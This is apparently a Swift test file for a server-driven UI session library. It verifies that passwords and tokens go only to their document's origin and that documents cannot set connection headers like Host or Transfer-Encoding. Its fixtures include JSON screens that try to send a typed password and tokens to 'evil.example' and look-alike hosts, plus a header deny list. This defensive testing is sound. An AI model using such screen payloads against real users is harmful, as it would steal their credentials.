import Foundation
import KennelTesting
import SessionSupport
import Sessions
import Testing
import Wire

/// Tests for the origins to which a session sends secrets.
@Suite("Where secrets may go")
struct SecretOriginTests {
    private static let password = "Corr3ct-horse"
    private static let home = "http://bff.example"

    private static func form(posting places: [String], secure: Bool = true) -> String {
        let buttons = places.map {
            """
            {"_beagleComponent_":"beagle:button","text":"To \($0)","onPress":[{"_beagleAction_":"beagle:sendRequest",
             "url":"\($0)?p=@{c.password}","method":"POST","headers":{"X-Pass":"@{c.password}","Cookie":"@{c.cookie}"},
             "data":{"password":"@{c.password}"},
             "onSuccess":[{"_beagleAction_":"beagle:setContext","contextId":"c","path":"token","value":"@{onSuccess.data.token}"}]}]},
            {"_beagleComponent_":"beagle:button","text":"Token to \($0)","onPress":[{"_beagleAction_":"beagle:sendRequest",
             "url":"\($0)","headers":{"X-Token":"@{c.token}"}}]}
            """
        }
        return """
            {"_beagleComponent_":"beagle:screenComponent","child":{"_beagleComponent_":"beagle:container",
             "context":{"id":"c","value":{"password":"","token":"","cookie":""}},"children":[
              {"_beagleComponent_":"beagle:textInput","placeholder":"Password","type":"PASSWORD","value":"@{c.password}",
               "onChange":[{"_beagleAction_":"beagle:setContext","contextId":"c","path":"password","value":"@{onChange.value}"}]},
              \(buttons.joined(separator: ","))]}}
            """
    }

    private func open(
        _ backend: TestBackend, screen: String?, places: [String]
    ) async throws -> TestSession {
        let form = Self.form(posting: places)
        if let screen, let url = URL(string: screen) { backend.answer(url.path, with: .screen(form)) }
        var policy = SecretPolicy()
        policy.paths = ["token"].compactMap(SecretPath.init)
        let configuration = SessionConfiguration(
            bff: URL(string: Self.home), screen: screen, screenJSON: screen == nil ? form : nil)
        return await TestSession(BeagleApp.init, configuration: configuration, backend: backend, secrets: policy)
    }

    private func holdsPassword(_ request: TransportRequest) -> Bool {
        request.url.absoluteString.contains(Self.password) || request.headers["X-Pass"] == Self.password
            || String(decoding: request.body ?? Data(), as: UTF8.self).contains(Self.password)
    }

    @Test func `A password is sent only to the origin that its document was requested from`() async throws {
        let others = [
            "http://evil.example/in", "http://bff.example:81/in", "https://bff.example/in", "http://x.bff.example/in",
        ]
        let backend = TestBackend()
        let session = try await open(backend, screen: "/form", places: ["/in"] + others)
        try await session.type(Self.password, into: "Password")
        for place in others {
            try await session.tap("To \(place)")
            let request = try #require(backend.requests.last)
            #expect(request.url.absoluteString.hasPrefix(place))
            #expect(!holdsPassword(request) && request.elsewhere == nil)
        }
        try await session.tap("To /in")
        let request = try #require(backend.requests.last)
        #expect(request.headers["X-Pass"] == Self.password && request.url.query == "p=\(Self.password)")
        #expect(request.elsewhere?.headers["X-Pass"] != Self.password)
        #expect(request.elsewhere?.body != request.body)
    }

    @Test func `A password typed into another backend's document is sent to that backend only`() async throws {
        let backend = TestBackend()
        let session = try await open(
            backend, screen: "http://shop.example/form", places: ["/in", "http://shop.example/in"])
        try await session.type(Self.password, into: "Password")
        try await session.tap("To /in")
        #expect(try !holdsPassword(#require(backend.requests.last)))
        try await session.tap("To http://shop.example/in")
        #expect(try holdsPassword(#require(backend.requests.last)))
    }

    @Test func `A password typed into a document given as JSON is sent to the session's backend only`() async throws {
        let backend = TestBackend()
        let session = try await open(backend, screen: nil, places: ["http://evil.example/in", "/in"])
        try await session.type(Self.password, into: "Password")
        try await session.tap("To http://evil.example/in")
        #expect(try !holdsPassword(#require(backend.requests.last)))
        try await session.tap("To /in")
        #expect(try holdsPassword(#require(backend.requests.last)))
    }

    @Test func `A secret of a response is sent only to the response's origin after redirects`() async throws {
        let token = "t0ken-of-the-answer"
        let backend = TestBackend()
        backend.answer(
            "/in",
            with: .response(
                TransportResponse(
                    headers: ["Content-Type": "application/json"], body: Data(#"{"token":"\#(token)"}"#.utf8),
                    url: URL(string: "http://login.example/in"))))
        let session = try await open(
            backend, screen: "/form", places: ["/in", "http://login.example/me", "http://evil.example/me"])
        try await session.tap("To /in")
        try await session.tap("Token to http://login.example/me")
        #expect(backend.requests.last?.headers["X-Token"] == token)
        for place in ["/in", "http://evil.example/me"] {
            try await session.tap("Token to \(place)")
            #expect(backend.requests.last?.headers["X-Token"]?.isEmpty == false)
            #expect(backend.requests.last?.headers["X-Token"] != token)
        }
    }

    @Test func `Documents cannot set connection headers such as Host, and the log reports it`() async throws {
        let names = [
            "Host", "content-length", "Transfer-Encoding", "Connection", "UPGRADE", "TE", "Trailer", "Keep-Alive",
            "Proxy-Authorization", "Proxy-Connection", "Expect",
        ]
        let headers = names.map { "\"\($0)\":\"x\"" }.joined(separator: ",")
        let backend = TestBackend()
        backend.answer(
            "/form",
            with: .screen(
                """
                {"_beagleComponent_":"beagle:button","text":"Send","onPress":[{"_beagleAction_":"beagle:sendRequest",
                 "url":"/in","headers":{\(headers),"X-Mine":"y"}}]}
                """))
        let session = await TestSession(
            BeagleApp.init,
            configuration: SessionConfiguration(bff: URL(string: Self.home), screen: "/form"), backend: backend)
        try await session.tap("Send")
        let sent = try #require(backend.requests.last).headers
        #expect(sent["X-Mine"] == "y")
        #expect(Set(sent.keys.map { $0.lowercased() }).isDisjoint(with: names.map { $0.lowercased() }))
        let lines = await session.snapshot()["log"]?.array?.compactMap { $0["message"]?.string } ?? []
        #expect(lines.contains { $0.contains("Host") && $0.contains("Transfer-Encoding") && $0.contains("left out") })
    }
}
